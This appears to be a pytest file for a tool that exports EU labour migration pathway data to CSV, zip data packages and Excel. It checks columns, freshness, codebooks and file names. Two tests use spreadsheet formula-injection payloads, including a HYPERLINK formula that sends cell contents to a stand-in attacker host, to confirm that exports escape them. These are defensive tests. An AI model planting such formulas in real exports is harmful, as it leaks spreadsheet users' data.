"""Exports hold exactly what is shown, with the contract columns; the committed CSV is current."""

from __future__ import annotations

import io
import json
import zipfile

import pandas as pd
from frictionless import Package, validate

from explorer.datafiles import csv_bytes, csv_text, data_package_zip, file_stem, partnerships_csv
from explorer.datapackage import datapackage
from explorer.filters import FilterSet, apply_filters, describe_filters
from explorer.loading import load_dataset
from explorer.package import PARTNERSHIPS_CSV_PATH, DATAPACKAGE_PATH, PATHWAYS_CSV_PATH, read_datapackage
from explorer.schema import CSV_COLUMNS

CONTRACT = [
    "id", "member_state", "region", "name", "name_local", "summary", "category", "skill_level", "sectors", "target_nationalities",
    "status", "valid_from", "job_offer_required", "labour_market_test", "quota_applies", "quota_type", "quota_size",
    "quota_year", "quota_share_percent", "income_requirement", "salary_threshold_amount", "salary_threshold_currency",
    "salary_threshold_period", "salary_payments_per_year", "salary_threshold_eur_year", "salary_threshold_multiple", "salary_threshold_reference", "reduced_threshold_amount",
    "reduced_threshold_condition", "language_requirement", "language_level", "languages", "qualification_required",
    "duration_type", "initial_permit_months", "max_stay_months", "family_reunification", "path_to_permanent_residence",
    "employer_change", "processing_days", "fee_amount", "fee_currency", "legal_basis", "source_url", "source_title",
    "source_publisher", "additional_sources", "as_of", "last_verified", "confidence", "changes_after_reference", "notes",
]


def test_csv_has_every_contract_column():
    assert set(CONTRACT) <= set(CSV_COLUMNS)
    assert [column for column in CSV_COLUMNS if column in CONTRACT] == CONTRACT  # contract order kept


def test_csv_rows_equal_the_filtered_view(pathways):
    state = FilterSet(member_state=("DE", "PL"), language=("none", "unknown"))
    shown = apply_filters(pathways, state)
    written = pd.read_csv(io.BytesIO(csv_bytes(shown)), dtype=str, keep_default_na=False)
    assert list(written["id"]) == list(shown["id"])
    assert list(written.columns) == CSV_COLUMNS


def test_amounts_are_written_as_the_source_states_them(pathways):
    rows = {row["id"]: row for row in pd.read_csv(io.StringIO(csv_text(pathways)), dtype=str, keep_default_na=False).to_dict("records")}
    assert rows["de-blue-card"]["salary_threshold_amount"] == "45300"
    assert rows["de-blue-card"]["reduced_threshold_amount"] == "41041.8"
    assert rows["at-key-worker"]["salary_payments_per_year"] == "14"
    assert rows["pl-work-permit"]["salary_threshold_eur_year"] == "11736.33"
    assert rows["de-seasonal"]["quota_size"] == "5000"
    assert rows["de-blue-card"]["job_offer_required"] == "true"


def test_committed_csv_equals_a_fresh_export_of_the_real_data():
    assert PATHWAYS_CSV_PATH.read_bytes() == csv_bytes(load_dataset().pathways), (
        "data/pathways/pathways.csv is stale: run `make build`")


def test_committed_partnerships_csv_equals_a_fresh_export():
    assert PARTNERSHIPS_CSV_PATH.read_bytes() == partnerships_csv(load_dataset().partnerships), (
        "data/pathways/partnerships.csv is stale: run `make build`")


def test_committed_datapackage_describes_the_csv():
    assert read_datapackage(DATAPACKAGE_PATH) == datapackage(partnerships=True), "datapackage.json is stale: run `make build`"
    report = validate(str(DATAPACKAGE_PATH))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]


def test_datapackage_states_reference_date_licence_and_key():
    package = Package(str(DATAPACKAGE_PATH))
    assert package.custom["reference_date"] == "2024-02-01"
    assert package.licenses[0]["name"] == "CC-BY-4.0"
    schema = package.get_resource("pathways").schema
    assert schema.primary_key == ["id"]
    assert schema.get_field("category").constraints["enum"][0] == "eu_blue_card"


def test_data_package_zip_holds_csv_datapackage_and_readme(pathways):
    state = FilterSet(member_state=("DE",), max_salary=50000)
    shown = apply_filters(pathways, state)
    archive = zipfile.ZipFile(io.BytesIO(data_package_zip(shown, state, "http://localhost:8501/?member_state=DE")))
    assert sorted(archive.namelist()) == ["README.md", "codebook.csv", "datapackage.json", "pathways.csv"]
    assert archive.read("pathways.csv") == csv_bytes(shown)
    readme = archive.read("README.md").decode()
    assert "Rows: 3" in readme and "Member states: Germany" in readme and "Salary offered (EUR gross per year): 50,000" in readme
    assert "2024-02-01" in readme and "CC-BY-4.0" in readme and "?member_state=DE" in readme
    assert json.loads(archive.read("datapackage.json"))["filters"] == describe_filters(state)


def test_file_names_say_what_is_inside():
    assert file_stem(FilterSet()) == "eu-labour-pathways_all_ref-2024-02-01"
    assert file_stem(FilterSet(member_state=("DE", "FR"), language=("none",)), "map-pathways") == (
        "eu-labour-pathways_map-pathways_germany+france_language-no-requirement_ref-2024-02-01")
    assert "/" not in file_stem(FilterSet(q="a/b c"))


def test_field_descriptions_in_the_package_are_the_rules_not_the_types():
    fields = {field["name"]: field["description"] for field in datapackage()["resources"][0]["schema"]["fields"]}
    assert fields["id"].startswith("required, unique across the dataset")
    assert not any(description in ("text", "ISO alpha-2", "ISO 3166-2") for description in fields.values())


def test_the_codebook_labels_every_code_in_the_committed_csv():
    import csv
    from explorer.package import CODEBOOK_CSV_PATH
    codebook = {(row["field"], row["code"]) for row in csv.DictReader(CODEBOOK_CSV_PATH.open(encoding="utf-8"))}
    data = pd.read_csv(PATHWAYS_CSV_PATH, dtype=str, keep_default_na=False)
    for field in ("category", "skill_level", "status", "labour_market_test", "quota_applies", "quota_type",
                  "income_requirement", "language_requirement", "qualification_required", "duration_type", "confidence"):
        missing = {code for code in data[field] if (field, code) not in codebook}
        assert not missing, (field, missing)


def test_excel_export_holds_the_view_in_words_the_codebook_and_the_filters(tmp_path, fixture_dataset):
    import openpyxl

    from explorer.cli import main
    from tests.conftest import FIXTURES
    out = tmp_path / "view.xlsx"
    assert main(["--data", str(FIXTURES), "export", "--out", str(out), "--member-state", "DE", "--language", "none"]) == 0
    workbook = openpyxl.load_workbook(out)
    assert workbook.sheetnames == ["Pathways", "Codebook", "About this export"]
    rows = list(workbook["Pathways"].values)
    header, records = rows[0], [dict(zip(rows[0], row)) for row in rows[1:]]
    assert "Labour-market test" in header and "labour_market_test" not in header
    assert {record["Record id"] for record in records} == {"de-blue-card", "de-seasonal"}
    blue_card = next(record for record in records if record["Record id"] == "de-blue-card")
    assert blue_card["Member state"] == "Germany" and blue_card["Category"] == "EU Blue Card"
    assert blue_card["Income rule"] == "Fixed salary threshold" and blue_card["Threshold, EUR per year"] == 45300
    codebook = list(workbook["Codebook"].values)
    assert ("Labour-market test", "exempt_if_shortage", "Required, except for shortage occupations") == codebook[
        next(i for i, row in enumerate(codebook) if row[1] == "exempt_if_shortage")][:3]
    about = dict(workbook["About this export"].values)
    assert about["Reference date"] == "2024-02-01" and "CC-BY-4.0" in about["Licence"] and about["Rows"] == 2


def test_excel_keeps_text_that_looks_like_a_formula_as_text():
    from explorer.datafiles import safe_cell
    assert safe_cell('=HYPERLINK("http://evil.example","x")') == '\'=HYPERLINK("http://evil.example","x")'
    assert safe_cell("Fixture Act § 1") == "Fixture Act § 1" and safe_cell(45300) == 45300


def test_csv_and_zip_keep_formula_like_text_as_text(tmp_path, pathways):
    """de-seasonal's notes in the fixtures hold a live-looking formula (OWASP CSV injection)."""
    import csv as csv_module

    from explorer.cli import main
    from tests.conftest import FIXTURES
    out = tmp_path / "x.csv"
    assert main(["--data", str(FIXTURES), "export", "--out", str(out), "--member-state", "DE"]) == 0
    notes = {row["id"]: row["notes"] for row in csv_module.DictReader(out.open(encoding="utf-8"))}
    assert notes["de-seasonal"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
    zipped = zipfile.ZipFile(io.BytesIO(data_package_zip(pathways, FilterSet(), "http://x/")))
    assert b"'=HYPERLINK" in zipped.read("pathways.csv") and b"CSV injection" in zipped.read("README.md")
